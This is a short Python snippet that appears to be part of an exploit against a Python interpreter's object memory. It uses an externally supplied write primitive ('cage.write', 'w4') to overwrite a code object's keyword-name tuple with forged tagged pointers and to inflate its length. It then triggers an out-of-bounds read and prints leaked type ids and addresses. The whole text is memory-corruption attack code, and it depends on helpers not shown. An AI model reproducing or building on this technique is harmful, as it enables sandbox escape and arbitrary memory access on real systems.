# A tuple of keyword names is longer than the values of the call, which are registers.
N = 200 if attempt == 0 else 0x3000000
texts = ["k%d" % i for i in range(200)]
ns = {}
exec("def f(): return '%s' % ''.format(first_name=1)\ndef g(): return make(first_name=1)", ns)
from types import SimpleNamespace
ns["make"] = SimpleNamespace
f = ns["g"]
f()
names = [c for c in f.__code__.co_consts if type(c) is tuple and c == ("first_name",)][0]
items = b"".join((0xFFF9 << 48 | id(t)).to_bytes(8, "little") for t in texts)
if N == 200:
    cage.write(id(names) + 8 + 8, items[8:])
else:
    for i in range(0, 1): cage.write(id(names) + 8 + 8, items[8:])
w4(id(names) + 4, N)
try: made = f()
except BaseException as e: print(repr(e)); made = None
if made:
    for name, value in made.__dict__.items():
        if value is not None: print(name, id(type(value)), hex(id(value) & 0xFFFFFFFF))
